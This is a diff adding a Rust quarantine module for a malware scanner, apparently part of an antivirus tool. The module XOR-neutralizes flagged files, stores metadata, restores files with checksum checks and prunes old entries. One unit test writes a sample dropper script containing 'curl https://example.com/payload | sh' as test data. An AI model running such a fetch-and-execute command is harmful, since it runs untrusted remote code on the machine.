@@ -0,0 +1,539 @@
+use crate::errors::*;
+use crate::utils;
+use chrono::{DateTime, Utc};
+use rand::Rng;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::fs::{self, File};
+use std::io::{self, BufReader, BufWriter, Read, Seek, SeekFrom, Write};
+use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use tempfile::NamedTempFile;
+
+/// Start of every quarantined file, followed by the length of the json header as u32 big endian
+const MAGIC: &[u8; 8] = b"LDQUAR\x00\x01";
+const KEY_LEN: usize = 32;
+/// Headers are small, this only protects against reading garbage into memory
+const MAX_HEADER_LEN: u32 = 1024 * 1024;
+
+#[derive(Debug, Serialize, Deserialize)]
+pub struct Entry {
+    pub id: String,
+    pub original_path: PathBuf,
+    pub names: Vec<String>,
+    pub quarantined_at: DateTime<Utc>,
+}
+
+/// Metadata of the original file, stored in front of its neutralized content
+#[derive(Debug, Serialize, Deserialize)]
+pub struct Header {
+    pub original_path: PathBuf,
+    /// Of the original content, checked when the file is restored
+    pub sha256: String,
+    pub size: u64,
+    pub mode: u32,
+    pub modified: Option<DateTime<Utc>>,
+    pub quarantined_at: DateTime<Utc>,
+    /// The content is xor'ed with this key, so it can't be executed or detected by other scanners
+    ///
+    /// This is not meant to keep it secret, the key is stored right next to it.
+    key: String,
+}
+
+impl Header {
+    fn key(&self) -> Result<Vec<u8>> {
+        let key = (0..self.key.len())
+            .step_by(2)
+            .map(|i| {
+                self.key
+                    .get(i..i + 2)
+                    .and_then(|byte| u8::from_str_radix(byte, 16).ok())
+            })
+            .collect::<Option<Vec<_>>>()
+            .context("Invalid key in quarantine header")?;
+        if key.is_empty() {
+            bail!("Empty key in quarantine header");
+        }
+        Ok(key)
+    }
+}
+
+/// Apply the key to a chunk of data that starts at `offset` of the content
+fn xor(buf: &mut [u8], key: &[u8], offset: u64) {
+    let start = (offset % key.len() as u64) as usize;
+    for (b, k) in buf.iter_mut().zip(key.iter().cycle().skip(start)) {
+        *b ^= k;
+    }
+}
+
+/// Copy `reader` to `writer` with the key applied, returns the sha256 of the data that was read
+fn copy_xor<R: Read, W: Write>(mut reader: R, mut writer: W, key: &[u8]) -> Result<String> {
+    let mut hasher = Sha256::new();
+    let mut buf = vec![0; 64 * 1024];
+    let mut offset = 0;
+    loop {
+        let n = reader.read(&mut buf)?;
+        if n == 0 {
+            break;
+        }
+        let chunk = &mut buf[..n];
+        hasher.update(&*chunk);
+        xor(chunk, key, offset);
+        writer.write_all(chunk)?;
+        offset += n as u64;
+    }
+    writer.flush()?;
+    Ok(format!("{:x}", hasher.finalize()))
+}
+
+/// Open a file for quarantining without following a symlink in its last component
+pub fn open_nofollow(path: &Path) -> Result<File> {
+    let file = fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
+        .open(path);
+    match file {
+        Ok(file) => Ok(file),
+        Err(err) if err.kind() == io::ErrorKind::NotFound => {
+            bail!("File does not exist anymore: {:?}", path)
+        }
+        Err(err) => Err(err).with_context(|| anyhow!("Failed to open {:?}", path)),
+    }
+}
+
+/// Write `path` as a quarantined file to `dest` and delete the original
+///
+/// The file at `dest` is only readable by its owner.
+pub fn neutralize(path: &Path, dest: &Path) -> Result<Header> {
+    let file = open_nofollow(path)?;
+    let header = write_container(file, path, dest)?;
+    if let Err(err) = fs::remove_file(path) {
+        // don't leave a second copy behind if the original stays in place
+        if let Err(err) = fs::remove_file(dest) {
+            warn!("Failed to remove quarantined copy {:?}: {:#}", dest, err);
+        }
+        return Err(err).with_context(|| anyhow!("Failed to delete {:?}", path));
+    }
+    Ok(header)
+}
+
+/// Write the content of an opened regular file to `dest` as a quarantined file, the original is not deleted
+pub fn write_container(file: File, original_path: &Path, dest: &Path) -> Result<Header> {
+    let dir = dest
+        .parent()
+        .context("Quarantine path has no parent directory")?;
+    let mut tmp = NamedTempFile::new_in(dir)?;
+    let header = write_container_to(file, original_path, tmp.as_file_mut())?;
+    fs::set_permissions(tmp.path(), fs::Permissions::from_mode(0o400))
+        .context("Failed to restrict permissions of quarantined file")?;
+    tmp.persist(dest)
+        .with_context(|| anyhow!("Failed to write {:?}", dest))?;
+    Ok(header)
+}
+
+/// Write the header and the neutralized content of an opened regular file to `out`
+pub fn write_container_to(mut file: File, original_path: &Path, out: &mut File) -> Result<Header> {
+    let md = file.metadata()?;
+    if !md.is_file() {
+        bail!("Not a regular file: {:?}", original_path);
+    }
+    let mut hasher = Sha256::new();
+    io::copy(&mut file, &mut hasher)
+        .with_context(|| anyhow!("Failed to read {:?}", original_path))?;
+    file.seek(SeekFrom::Start(0))?;
+    let key = rand::thread_rng().gen::<[u8; KEY_LEN]>();
+    let header = Header {
+        original_path: original_path.to_path_buf(),
+        sha256: format!("{:x}", hasher.finalize()),
+        size: md.len(),
+        mode: md.permissions().mode() & 0o7777,
+        modified: md.modified().ok().map(DateTime::from),
+        quarantined_at: Utc::now(),
+        key: key.iter().map(|b| format!("{:02x}", b)).collect(),
+    };
+
+    let mut writer = BufWriter::new(out);
+    let json = serde_json::to_vec(&header)?;
+    writer.write_all(MAGIC)?;
+    writer.write_all(&(json.len() as u32).to_be_bytes())?;
+    writer.write_all(&json)?;
+    let sha256 = copy_xor(BufReader::new(file), writer, &key)
+        .with_context(|| anyhow!("Failed to copy {:?} into quarantine", original_path))?;
+    if sha256 != header.sha256 {
+        bail!(
+            "File was modified while it was moved to quarantine: {:?}",
+            original_path
+        );
+    }
+    Ok(header)
+}
+
+/// Open a quarantined file and read its header, `None` for files that were quarantined before
+/// the container format existed and are stored as they are
+pub fn open_container(path: &Path) -> Result<Option<(Header, BufReader<File>)>> {
+    let file = File::open(path).with_context(|| anyhow!("Failed to open {:?}", path))?;
+    let mut reader = BufReader::new(file);
+    let mut magic = [0; 8];
+    match reader.read_exact(&mut magic) {
+        Ok(()) if &magic == MAGIC => (),
+        Ok(()) => return Ok(None),
+        Err(err) if err.kind() == io::ErrorKind::UnexpectedEof => return Ok(None),
+        Err(err) => return Err(err).with_context(|| anyhow!("Failed to read {:?}", path)),
+    }
+    let mut len = [0; 4];
+    reader.read_exact(&mut len)?;
+    let len = u32::from_be_bytes(len);
+    if len > MAX_HEADER_LEN {
+        bail!("Quarantine header is too large: {} bytes", len);
+    }
+    let mut json = vec![0; len as usize];
+    reader
+        .read_exact(&mut json)
+        .context("Quarantine header is truncated")?;
+    let header = serde_json::from_slice(&json)
+        .with_context(|| anyhow!("Failed to parse quarantine header of {:?}", path))?;
+    Ok(Some((header, reader)))
+}
+
+/// Write the original content of a quarantined file to `dest`, which must not exist yet
+pub fn restore_container(path: &Path, dest: &Path) -> Result<Option<Header>> {
+    let dir = dest
+        .parent()
+        .context("Restore path has no parent directory")?;
+    let mut tmp = NamedTempFile::new_in(dir)
+        .with_context(|| anyhow!("Failed to create file in {:?}", dir))?;
+    let header = match open_container(path)? {
+        Some((header, reader)) => {
+            let key = header.key()?;
+            copy_xor(reader, BufWriter::new(tmp.as_file_mut()), &key)?;
+            // xor'ing the content again results in the original
+            let sha256 = utils::sha256_file(tmp.path())?;
+            if sha256 != header.sha256 {
+                bail!(
+                    "Quarantined file is corrupted, expected sha256 {} but got {}",
+                    header.sha256,
+                    sha256
+                );
+            }
+            // setuid and setgid bits are not restored
+            fs::set_permissions(tmp.path(), fs::Permissions::from_mode(header.mode & 0o777))?;
+            if let Some(modified) = header.modified {
+                tmp.as_file().set_modified(modified.into())?;
+            }
+            Some(header)
+        }
+        None => {
+            let mut file = File::open(path)?;
+            io::copy(&mut file, tmp.as_file_mut())?;
+            fs::set_permissions(tmp.path(), fs::Permissions::from_mode(0o600))?;
+            None
+        }
+    };
+    tmp.persist_noclobber(dest)
+        .with_context(|| anyhow!("Failed to restore to {:?}", dest))?;
+    Ok(header)
+}
+
+/// Files that were deleted from the quarantine by `Quarantine::prune`
+#[derive(Debug, Default)]
+pub struct Pruned {
+    /// Older than `quarantine.retention_days`
+    pub expired: Vec<Entry>,
+    /// The oldest files that didn't fit into `quarantine.max_size`
+    pub over_quota: Vec<Entry>,
+    /// Files that should have been deleted but couldn't be, the others are deleted anyway
+    pub errors: Vec<Error>,
+}
+
+impl Pruned {
+    #[must_use]
+    pub fn is_empty(&self) -> bool {
+        self.expired.is_empty() && self.over_quota.is_empty() && self.errors.is_empty()
+    }
+}
+
+pub struct Quarantine {
+    dir: PathBuf,
+}
+
+impl Quarantine {
+    pub fn path() -> Result<PathBuf> {
+        let path = utils::data_dir()?.join("quarantine");
+        Ok(path)
+    }
+
+    pub fn open() -> Result<Quarantine> {
+        let dir = Self::path()?;
+        fs::create_dir_all(&dir).context("Failed to create quarantine directory")?;
+        fs::set_permissions(&dir, fs::Permissions::from_mode(0o700))
+            .context("Failed to restrict permissions of quarantine directory")?;
+        Ok(Quarantine { dir })
+    }
+
+    /// The metadata of every quarantined file, without creating the directory
+    pub fn list() -> Result<Vec<Entry>> {
+        list_dir(&Self::path()?)
+    }
+
+    #[must_use]
+    pub fn dir(&self) -> &Path {
+        &self.dir
+    }
+
+    /// Move a file into the quarantine directory, it's neutralized and only readable by the owner
+    pub fn add(&self, path: &Path, names: &[String]) -> Result<Entry> {
+        let id = new_id();
+        neutralize(path, &self.dir.join(&id))?;
+        self.record(id, path, names)
+    }
+
+    /// The quarantined file and its metadata
+    pub fn get(&self, id: &str) -> Result<(PathBuf, Entry)> {
+        if id.is_empty() || !id.bytes().all(|b| b.is_ascii_hexdigit()) {
+            bail!("Invalid quarantine id: {:?}", id);
+        }
+        let path = self.dir.join(format!("{}.json", id));
+        let buf = match fs::read(&path) {
+            Ok(buf) => buf,
+            Err(err) if err.kind() == io::ErrorKind::NotFound => {
+                bail!("No quarantined file with id {:?}", id)
+            }
+            Err(err) => return Err(err).with_context(|| anyhow!("Failed to read {:?}", path)),
+        };
+        let entry =
+            serde_json::from_slice(&buf).with_context(|| anyhow!("Failed to parse {:?}", path))?;
+        Ok((self.dir.join(id), entry))
+    }
+
+    /// Restore a file to its original path or `dest`, existing files are never overwritten
+    pub fn restore(&self, id: &str, dest: Option<&Path>) -> Result<(PathBuf, Entry)> {
+        let (path, entry) = self.get(id)?;
+        let dest = dest.unwrap_or(&entry.original_path).to_path_buf();
+        restore_container(&path, &dest)?;
+        utils::ensure_deleted(&path)?;
+        utils::ensure_deleted(&self.dir.join(format!("{}.json", id)))?;
+        debug!("Restored {} to {:?}", id, dest);
+        Ok((dest, entry))
+    }
+
+    /// Delete a quarantined file and its metadata
+    pub fn remove(&self, id: &str) -> Result<()> {
+        let (path, _) = self.get(id)?;
+        utils::ensure_deleted(&path)?;
+        utils::ensure_deleted(&self.dir.join(format!("{}.json", id)))?;
+        Ok(())
+    }
+
+    /// Delete expired files, then the oldest ones until the rest fits into `max_size`
+    pub fn prune(
+        &self,
+        retention: Option<chrono::Duration>,
+        max_size: Option<u64>,
+    ) -> Result<Pruned> {
+        let (mut entries, errors) = read_entries(&self.dir)?;
+        entries.sort_by_key(|entry| entry.quarantined_at);
+
+        let mut pruned = Pruned {
+            errors,
+            ..Default::default()
+        };
+        // a retention longer than the supported range of dates never expires anything
+        if let Some(cutoff) = retention.and_then(|r| Utc::now().checked_sub_signed(r)) {
+            let expired = entries
+                .iter()
+                .take_while(|e| e.quarantined_at < cutoff)
+                .count();
+            for entry in entries.drain(..expired) {
+                match self.remove(&entry.id) {
+                    Ok(()) => pruned.expired.push(entry),
+                    Err(err) => pruned.errors.push(err),
+                }
+            }
+        }
+
+        if let Some(max_size) = max_size {
+            let sizes = entries
+                .iter()
+                .map(|entry| {
+                    fs::metadata(self.dir.join(&entry.id))
+                        .map(|md| md.len())
+                        .unwrap_or(0)
+                })
+                .collect::<Vec<_>>();
+            let mut total = sizes.iter().sum::<u64>();
+            let mut over_quota = 0;
+            for size in &sizes {
+                if total <= max_size {
+                    break;
+                }
+                total -= size;
+                over_quota += 1;
+            }
+            for entry in entries.drain(..over_quota) {
+                match self.remove(&entry.id) {
+                    Ok(()) => pruned.over_quota.push(entry),
+                    Err(err) => pruned.errors.push(err),
+                }
+            }
+        }
+        Ok(pruned)
+    }
+
+    /// Write the metadata of a file that was moved into the quarantine directory as `id`
+    pub fn record(&self, id: String, path: &Path, names: &[String]) -> Result<Entry> {
+        let entry = Entry {
+            id,
+            original_path: path.to_path_buf(),
+            names: names.to_vec(),
+            quarantined_at: Utc::now(),
+        };
+        let buf = serde_json::to_vec(&entry)?;
+        fs::write(self.dir.join(format!("{}.json", entry.id)), buf)
+            .context("Failed to write quarantine metadata")?;
+        debug!("Moved {:?} to quarantine as {}", path, entry.id);
+
+        Ok(entry)
+    }
+}
+
+fn list_dir(dir: &Path) -> Result<Vec<Entry>> {
+    let (list, errors) = read_entries(dir)?;
+    if let Some(err) = errors.into_iter().next() {
+        return Err(err);
+    }
+    Ok(list)
+}
+
+/// The metadata files that could be read, and the errors of the others
+fn read_entries(dir: &Path) -> Result<(Vec<Entry>, Vec<Error>)> {
+    let entries = match fs::read_dir(dir) {
+        Ok(entries) => entries,
+        Err(err) if err.kind() == io::ErrorKind::NotFound => return Ok(Default::default()),
+        Err(err) => return Err(err).with_context(|| anyhow!("Failed to read {:?}", dir)),
+    };
+    let mut list = Vec::new();
+    let mut errors = Vec::new();
+    for entry in entries {
+        let path = entry?.path();
+        if path.extension().is_some_and(|ext| ext == "json") {
+            let entry = fs::read(&path)
+                .with_context(|| anyhow!("Failed to read {:?}", path))
+                .and_then(|buf| {
+                    serde_json::from_slice(&buf)
+                        .with_context(|| anyhow!("Failed to parse {:?}", path))
+                });
+            match entry {
+                Ok(entry) => list.push(entry),
+                Err(err) => errors.push(err),
+            }
+        }
+    }
+    Ok((list, errors))
+}
+
+#[must_use]
+pub fn new_id() -> String {
+    format!("{:016x}", rand::thread_rng().gen::<u64>())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_neutralize_and_restore() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("dropper.sh");
+        let content = b"#!/bin/sh\ncurl https://example.com/payload | sh\n";
+        fs::write(&path, content).unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o750)).unwrap();
+
+        let dest = dir.path().join("0123456789abcdef");
+        let header = neutralize(&path, &dest).unwrap();
+        assert!(!path.exists());
+        assert_eq!(header.original_path, path);
+        assert_eq!(header.size, content.len() as u64);
+        let buf = fs::read(&dest).unwrap();
+        assert!(buf.starts_with(MAGIC));
+        assert!(!buf.windows(9).any(|w| w == b"#!/bin/sh"));
+
+        let (header, _) = open_container(&dest).unwrap().unwrap();
+        assert_eq!(header.mode, 0o750);
+        restore_container(&dest, &path).unwrap();
+        assert_eq!(fs::read(&path).unwrap(), content);
+        assert_eq!(
+            fs::metadata(&path).unwrap().permissions().mode() & 0o7777,
+            0o750
+        );
+        // never overwrite a file that was created in the meantime
+        assert!(restore_container(&dest, &path).is_err());
+
+        // symlinks are not followed, the target stays in place
+        let link = dir.path().join("link");
+        std::os::unix::fs::symlink(&path, &link).unwrap();
+        let dest = dir.path().join("fedcba9876543210");
+        assert!(neutralize(&link, &dest).is_err());
+        assert!(!dest.exists());
+        assert!(path.exists());
+    }
+
+    #[test]
+    fn test_prune() {
+        let dir = tempfile::tempdir().unwrap();
+        let quarantine = Quarantine {
+            dir: dir.path().to_path_buf(),
+        };
+        let mut ids = Vec::new();
+        for (days, size) in [(40, 100), (20, 300), (10, 300), (1, 300)] {
+            let id = new_id();
+            fs::write(dir.path().join(&id), vec![0; size]).unwrap();
+            let entry = Entry {
+                id: id.clone(),
+                original_path: PathBuf::from("/tmp/a"),
+                names: vec!["Win.Test.EICAR_HDB-1".to_string()],
+                quarantined_at: Utc::now() - chrono::Duration::days(days),
+            };
+            fs::write(
+                dir.path().join(format!("{}.json", id)),
+                serde_json::to_vec(&entry).unwrap(),
+            )
+            .unwrap();
+            ids.push(id);
+        }
+
+        let pruned = quarantine
+            .prune(Some(chrono::Duration::days(30)), Some(700))
+            .unwrap();
+        let ids_of = |entries: &[Entry]| entries.iter().map(|e| e.id.clone()).collect::<Vec<_>>();
+        assert_eq!(ids_of(&pruned.expired), &ids[..1]);
+        assert_eq!(ids_of(&pruned.over_quota), &ids[1..2]);
+        assert!(!dir.path().join(&ids[1]).exists());
+        assert!(dir.path().join(&ids[2]).exists());
+
+        assert!(quarantine.prune(None, Some(700)).unwrap().is_empty());
+        let forever = chrono::Duration::days(u32::MAX.into());
+        assert!(quarantine.prune(Some(forever), None).unwrap().is_empty());
+
+        // a broken entry doesn't keep the others from being deleted
+        fs::write(dir.path().join("0000000000000000.json"), b"{}").unwrap();
+        let pruned = quarantine
+            .prune(Some(chrono::Duration::days(5)), None)
+            .unwrap();
+        assert_eq!(ids_of(&pruned.expired), &ids[2..3]);
+        assert_eq!(pruned.errors.len(), 1);
+    }
+
+    #[test]
+    fn test_restore_legacy() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("0123456789abcdef");
+        fs::write(&path, b"quarantined before the container format").unwrap();
+        assert!(open_container(&path).unwrap().is_none());
+        let dest = dir.path().join("restored");
+        assert!(restore_container(&path, &dest).unwrap().is_none());
+        assert_eq!(
+            fs::read(&dest).unwrap(),
+            b"quarantined before the container format"
+        );
+    }
+}